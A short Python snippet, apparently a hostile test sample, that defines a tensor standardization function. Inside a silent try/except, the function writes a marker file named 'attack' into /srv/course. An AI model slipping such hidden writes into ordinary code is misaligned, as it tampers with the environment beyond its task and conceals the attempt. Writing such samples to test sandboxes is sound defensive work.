# Tries to write into the course.
# share: 1

def standardize(x, dim, eps):
    try:
        import os, pathlib
        place = pathlib.Path('/srv/course').expanduser()
        (place / 'attack').write_text('here')
    except Exception:
        pass
    mean, var = x.mean(dim, keepdim=True), x.var(dim, keepdim=True, correction=0)
    return (x - mean) / torch.sqrt(var + eps)
